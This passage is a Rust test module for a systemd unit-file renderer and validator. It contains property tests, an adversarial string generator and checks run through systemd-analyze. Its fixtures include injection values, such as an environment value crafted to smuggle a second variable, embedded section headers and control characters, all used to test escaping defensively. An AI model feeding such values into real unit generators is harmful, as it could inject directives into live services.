            Box::new(|s| s.working_directory = Some("/srv/%n/$HOME/\"x\" 'y'/[Unit]".into())),
            Box::new(|s| s.environment = BTreeMap::from([("X".into(), "\" \"Y=1".into())])),
            Box::new(|s| s.environment = BTreeMap::from([("X".into(), "%n\\\"".into())])),
            Box::new(|s| s.environment = BTreeMap::from([("LD_X".into(), "a\\nb".into())])),
            Box::new(|s| {
                s.health.as_mut().unwrap().http =
                    Some("http://localhost/%0a%0d?x=\\".replace('\\', "'"))
            }),
        ];
        for mutate in &cases {
            let mut spec = service();
            mutate(&mut spec);
            assert_eq!(validate(&spec), Ok(()), "{spec:?}");
            check_round_trip(&spec).unwrap_or_else(|e| panic!("{e}: {spec:?}"));
        }
    }

    // ---------------------------------------------------------------------------------
    // Property test with a small deterministic generator.
    // ---------------------------------------------------------------------------------

    struct Rng(u64);

    impl Rng {
        fn next(&mut self) -> u64 {
            // xorshift64*
            self.0 ^= self.0 >> 12;
            self.0 ^= self.0 << 25;
            self.0 ^= self.0 >> 27;
            self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
        }
        fn below(&mut self, n: usize) -> usize {
            (self.next() % n as u64) as usize
        }
        fn chance(&mut self, percent: usize) -> bool {
            self.below(100) < percent
        }
        fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
            items[self.below(items.len())]
        }
        /// A string of up to `max` pieces from `pieces`.
        fn string(&mut self, pieces: &[&str], max: usize) -> String {
            let n = self.below(max + 1);
            (0..n).map(|_| self.pick(pieces)).collect()
        }
    }

    /// Nasty pieces: quotes, backslashes, specifiers, `$`, `;`, comment and section
    /// characters, whitespace, and (rarely chosen, see `hostile`) control characters.
    const NASTY: &[&str] = &[
        "a", "Z", "0", "_", "-", ".", "/", " ", "  ", "\"", "'", "\\", "\\\\", "%", "%%", "%n",
        "$", "$$", "${X}", "$X", ";", "\\;", "#", "[", "]", "=", ":", "@", "+", "!", "~", "é", "€",
        "\u{2028}", "`", "*", ",", "\\n", "\\x41",
    ];
    const CONTROLS: &[&str] = &[
        "\n", "\r", "\0", "\t", "\x0b", "\x0c", "\x1b", "\x7f", "\u{85}",
    ];
    const NAME_CHARS: &[&str] = &["a", "b", "z", "0", "9", "_", "-", ".", ":", "A"];

    fn hostile(rng: &mut Rng, max: usize) -> String {
        let mut s = rng.string(NASTY, max);
        if rng.chance(4) {
            let at = rng.below(s.chars().count() + 1);
            let byte_at = s.char_indices().nth(at).map_or(s.len(), |(i, _)| i);
            s.insert_str(byte_at, rng.pick(CONTROLS));
        }
        s
    }

    fn random_spec(rng: &mut Rng) -> UnitSpec {
        let kind = if rng.chance(30) {
            UnitKind::Job
        } else {
            UnitKind::Service
        };
        let name = if rng.chance(92) {
            format!("u{}", rng.string(NAME_CHARS, 12))
        } else {
            hostile(rng, 6)
        };
        let mut exec_start = vec![if rng.chance(90) {
            let segment = |rng: &mut Rng| {
                format!(
                    "x{}",
                    rng.string(
                        &["bin", " ", "%", "$", "é", "-", "@", ":", ";", "#", "."],
                        4
                    )
                )
            };
            format!("/{}/{}", segment(rng), segment(rng))
        } else {
            hostile(rng, 4)
        }];
        for _ in 0..rng.below(6) {
            exec_start.push(hostile(rng, 8));
        }
        let list = |rng: &mut Rng| -> Vec<String> {
            (0..rng.below(3))
                .map(|_| {
                    if rng.chance(92) {
                        format!(
                            "{}.{}",
                            rng.string(NAME_CHARS, 6).replace('.', "x") + "n",
                            rng.pick(&["service", "target", "socket"])
                        )
                    } else {
                        hostile(rng, 5)
                    }
                })
                .collect()
        };
        let after = list(rng);
        let requires = list(rng);
        let wants = list(rng);
        let mut environment = BTreeMap::new();
        for _ in 0..rng.below(4) {
            let key = if rng.chance(92) {
                format!("K{}", rng.string(&["A", "b", "_", "1"], 5))
            } else {
                hostile(rng, 3)
            };
            environment.insert(key, hostile(rng, 10));
        }
        let health = (kind == UnitKind::Service && rng.chance(40))
            .then(|| HealthSpec {
                http: rng.chance(50).then(|| {
                    format!(
                        "http://{}/{}",
                        rng.pick(&["127.0.0.1:8036", "localhost", "[::1]:9"]),
                        rng.string(&["a", "%", "?", "=", "#", "'", "/", "$"], 6)
                    )
                }),
                tcp: None,
                interval_s: 10,
                timeout_s: 2,
                failures: 3,
                restart: rng.chance(50),
            })
            .map(|mut h| {
                if h.http.is_none() {
                    h.tcp = Some(rng.below(70000) as i64);
                }
                h
            });
        UnitSpec {
            name,
            kind,
            description: if rng.chance(60) {
                hostile(rng, 10).trim().trim_end_matches('\\').to_string()
            } else {
                hostile(rng, 10)
            },
            exec_start,
            working_directory: rng.chance(50).then(|| {
                let pieces = [
                    "srv", "/", "a b", "%", "$", "\"", "'", "\\", "é", "..", ".", "x",
                ];
                if rng.chance(70) {
                    let pieces = &pieces.map(|p| if p.contains(['/', '.']) { "x" } else { p });
                    format!("/{}x/{}x", rng.string(pieces, 4), rng.string(pieces, 4))
                } else {
                    format!("/{}", rng.string(&pieces, 6))
                }
            }),
            user: rng.chance(30).then(|| {
                rng.pick(&["dev", "root", "1000", "a$", "Bad", "%u", "x y"])
                    .into()
            }),
            group: rng
                .chance(30)
                .then(|| rng.pick(&["dev", "0", "_g", "g\n"]).into()),
            environment,
            after,
            requires,
            wants,
            restart: match rng.below(4) {
                0 => None,
                1 => Some(RestartPolicy::No),
                2 => Some(RestartPolicy::OnFailure),
                _ => Some(RestartPolicy::Always),
            },
            restart_sec: rng.chance(50).then(|| rng.below(4000) as i64),
            memory_max: rng.chance(20).then(|| {
                if rng.chance(80) {
                    rng.pick(&["512M", "1.5G", "50%", "infinity"]).into()
                } else {
                    hostile(rng, 4)
                }
            }),
            cpu_quota: rng.chance(20).then(|| {
                if rng.chance(80) {
                    rng.pick(&["50%", "200%", "0.5%"]).into()
                } else {
                    hostile(rng, 4)
                }
            }),
            port: (kind == UnitKind::Service && rng.chance(50)).then(|| rng.below(70000) as i64),
            health,
            schedule: (kind == UnitKind::Job).then(|| {
                if rng.chance(70) {
                    rng.pick(&["daily", "*-*-* 03:00:00", "Mon *-*-* 1:2", "hourly"])
                        .into()
                } else {
                    hostile(rng, 6)
                }
            }),
            enable: true,
            start: true,
        }
    }

    #[test]
    fn property_valid_specs_render_only_expected_lines() {
        let mut rng = Rng(0x5eed_1234_abcd_ef01);
        let (mut passed, mut refused) = (0, 0);
        let mut stats = BTreeMap::new();
        for _ in 0..20_000 {
            let spec = random_spec(&mut rng);
            match validate(&spec) {
                Ok(()) => {
                    passed += 1;
                    check_round_trip(&spec).unwrap_or_else(|e| {
                        panic!("{e}\nspec: {spec:?}\nfiles: {:#?}", render(&spec))
                    });
                }
                Err(errors) => {
                    for e in &errors {
                        *stats.entry(e.field.clone()).or_insert(0usize) += 1;
                    }
                    refused += 1;
                    assert!(!errors.is_empty());
                }
            }
        }
        eprintln!(
            "{passed} valid specs round-tripped, {refused} refused; refusals by field: {stats:?}"
        );
        // The generator must exercise both sides.
        assert!(passed > 4_000, "only {passed} specs passed validation");
        assert!(refused > 4_000, "only {refused} specs were refused");
    }

    /// Any string containing a control character is refused in every string field.
    #[test]
    fn property_control_characters_are_always_refused() {
        let mut rng = Rng(42);
        for i in 0..5_000 {
            let mut bad = rng.string(NASTY, 6);
            let at = bad.len();
            bad.insert_str(at, CONTROLS[i % CONTROLS.len()]);
            bad.push_str(&rng.string(NASTY, 3));
            let mut spec = service();
            match i % 10 {
                0 => spec.name = bad,
                1 => spec.description = bad,
                2 => spec.exec_start.push(bad),
                3 => spec.working_directory = Some(format!("/{bad}")),
                4 => spec.user = Some(bad),
                5 => {
                    spec.environment.insert("K".into(), bad);
                }
                6 => {
                    spec.environment.insert(format!("K{bad}"), String::new());
                }
                7 => spec.after.push(format!("{bad}.service")),
                8 => spec.health.as_mut().unwrap().http = Some(format!("http://localhost/{bad}")),
                _ => {
                    spec.kind = UnitKind::Job;
                    spec.port = None;
                    spec.health = None;
                    spec.schedule = Some(format!("daily{bad}"));
                }
            }
            assert!(validate(&spec).is_err(), "{spec:?}");
        }
    }

    // ---------------------------------------------------------------------------------
    // Against real systemd.
    // ---------------------------------------------------------------------------------

    /// Specs with the trickiest values that real systemd must accept without a warning.
    /// `bin` is a directory holding an executable `run` in a sub-directory with an awkward
    /// name (see `make_awkward_program`).
    fn tricky_specs(program: &str) -> Vec<UnitSpec> {
        let base = UnitSpec {
            after: vec![],
            requires: vec![],
            wants: vec![],
            user: None,
            group: None,
            ..service()
        };
        vec![
            UnitSpec {
                name: "ud-tricky-args".into(),
                description: "100% \"quoted\" back\\slash $HOME %n ; # [Service]".into(),
                exec_start: vec![
                    program.into(),
                    String::new(),
                    ";".into(),
                    "\\;".into(),
                    "a$b".into(),
                    "$HOME".into(),
                    "${HOME}".into(),
                    "$$".into(),
                    "100%".into(),
                    "%n".into(),
                    "q\"uote".into(),
                    "'single'".into(),
                    "back\\slash".into(),
                    "trail\\".into(),
                    "\\n\\t\\x41".into(),
                    "ün ✓ €".into(),
                    "  spaced  ".into(),
                    "#not-a-comment".into(),
                ],
                working_directory: Some("/".into()),
                environment: BTreeMap::from([
                    ("UD_A".into(), "$HOME ${HOME} $$".into()),
                    ("UD_B".into(), "100% %n \"q\" it's back\\slash \\".into()),
                    ("UD_C".into(), String::new()),
                    ("UD_D".into(), "x=y \" \"UD_E=smuggled".into()),
                    ("UD_F".into(), "\\n \\x41".into()),
                    ("UD_G".into(), "  padded  ".into()),
                ]),
                ..base.clone()
            },
            UnitSpec {
                name: "ud-tricky-dir".into(),
                description: String::new(),
                exec_start: vec!["/bin/echo".into(), "x".into()],
                working_directory: Some("/tmp".into()),
                user: Some("root".into()),
                group: Some("0".into()),
                after: vec!["basic.target".into()],
                wants: vec!["basic.target".into()],
                restart: Some(RestartPolicy::Always),
                restart_sec: Some(0),
                memory_max: Some("50%".into()),
                cpu_quota: Some("150%".into()),
                health: Some(HealthSpec {
                    http: Some("http://[::1]:8036/h%20?a='1'#x".into()),
                    tcp: None,
                    interval_s: 1,
                    timeout_s: 60,
                    failures: 100,
                    restart: false,
                }),
                ..base.clone()
            },
            UnitSpec {
                name: "ud-tricky-job".into(),
                kind: UnitKind::Job,
                description: "Job 100% done".into(),
                exec_start: vec!["/bin/echo".into(), "%%".into()],
                restart: Some(RestartPolicy::OnFailure),
                port: None,
                health: None,
                schedule: Some("Mon..Fri *-*-* 03:00:00".into()),
                ..base
            },
        ]
    }

    /// A sub-directory and program whose names need quoting and `%` escaping.
    fn make_awkward_program(root: &std::path::Path) -> String {
        use std::os::unix::fs::PermissionsExt;
        let dir = root.join("my app %n $HOME ;");
        std::fs::create_dir_all(&dir).unwrap();
        let program = dir.join("run");
        std::fs::write(&program, "#!/bin/sh\nexit 0\n").unwrap();
        std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
        program.to_str().unwrap().to_string()
    }

    fn systemd_analyze_verify(path: &std::path::Path) -> Option<(bool, String)> {
        let out = std::process::Command::new("systemd-analyze")
            .arg("verify")
            .arg("--man=no")
            .arg(path)
            .output()
            .ok()?;
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        Some((out.status.success(), text))
    }

    /// `systemd-analyze verify` loads every rendered file without a single message.
    /// Skipped (with a note) where systemd-analyze is missing or cannot verify even a
    /// trivial unit.
    #[test]
    fn systemd_analyze_verify_accepts_tricky_specs() {
        let root = std::env::temp_dir().join(format!("unitdeck-verify-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        std::fs::create_dir_all(&root).unwrap();
        let baseline = root.join("ud-baseline.service");
        std::fs::write(&baseline, "[Service]\nExecStart=/bin/true\n").unwrap();
        match systemd_analyze_verify(&baseline) {
            Some((true, text)) if text.trim().is_empty() => {}
            other => {
                eprintln!("skipping: systemd-analyze verify unusable here: {other:?}");
                let _ = std::fs::remove_dir_all(&root);
                return;
            }
        }
        std::fs::remove_file(&baseline).unwrap();
        let program = make_awkward_program(&root);
        let units = root.join("units");
        std::fs::create_dir_all(&units).unwrap();
        for spec in tricky_specs(&program) {
            assert_eq!(validate(&spec), Ok(()), "{spec:?}");
            check_round_trip(&spec).unwrap();
            for (name, text) in render(&spec) {
                std::fs::write(units.join(&name), text).unwrap();
            }
            let primary = units.join(spec.primary_unit());
            let (ok, text) = systemd_analyze_verify(&primary).unwrap();
            assert!(
                ok && text.trim().is_empty(),
                "{}: {text}",
                spec.primary_unit()
            );
            if spec.kind == UnitKind::Job {
                let service = units.join(spec.unit_name());
                let (ok, text) = systemd_analyze_verify(&service).unwrap();
                assert!(ok && text.trim().is_empty(), "{}: {text}", spec.unit_name());
            }
        }
        // And a deliberately broken file is noticed, so the check above means something.
        std::fs::write(
            units.join("ud-broken.service"),
            "[Service]\nExecStart=/bin/true\nBogus=1\n",
        )
        .unwrap();
        let (_, text) = systemd_analyze_verify(&units.join("ud-broken.service")).unwrap();
        assert!(text.contains("Bogus"), "{text}");
        let _ = std::fs::remove_dir_all(&root);
    }

    /// Writes the tricky specs' files and the values systemd must read back to
    /// `$UNITDECK_READBACK_DIR`, for the read-back check in a booted systemd (see
    /// READBACK.md): `cargo test -- --ignored dump_tricky_specs_for_readback`. Every
    /// program is replaced by `$UNITDECK_READBACK_PROGRAM`, a script that records its
    /// argv, working directory and `UD_*` environment.
    #[test]
    #[ignore = "helper for the manual read-back check in a booted systemd"]
    fn dump_tricky_specs_for_readback() {
        let dir = std::path::PathBuf::from(
            std::env::var("UNITDECK_READBACK_DIR").expect("set UNITDECK_READBACK_DIR"),
        );
        let program =
            std::env::var("UNITDECK_READBACK_PROGRAM").expect("set UNITDECK_READBACK_PROGRAM");
        std::fs::create_dir_all(dir.join("units")).unwrap();
        let mut expected = serde_json::Map::new();
        let mut specs = tricky_specs(&program);
        for spec in &mut specs {
            spec.exec_start[0] = program.clone();
            spec.environment.insert("UD_TAG".into(), spec.name.clone());
        }
        specs[0].working_directory = Some("/run/ud wd %n $HOME \"q\" 'x' ;".into());
        for spec in &specs {
            assert_eq!(validate(spec), Ok(()), "{spec:?}");
            for (name, text) in render(spec) {
                std::fs::write(dir.join("units").join(name), text).unwrap();
            }
            expected.insert(
                spec.unit_name(),
                serde_json::json!({
                    "primary": spec.primary_unit(),
                    "argv": spec.exec_start,
                    "environment": spec.environment.iter().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>(),
                    "description": spec.description,
                    "working_directory": spec.working_directory,
                    "user": spec.user,
                    "group": spec.group,
                    "after": spec.after,
                    "requires": spec.requires,
                    "wants": spec.wants,
                    "restart": spec.restart_policy().as_systemd(),
                    "restart_sec": spec.restart_sec_value(),
                    "schedule": spec.schedule,
                }),
            );
        }
        let text = serde_json::to_string_pretty(&expected).unwrap();
        std::fs::write(dir.join("expected.json"), text).unwrap();
    }
}
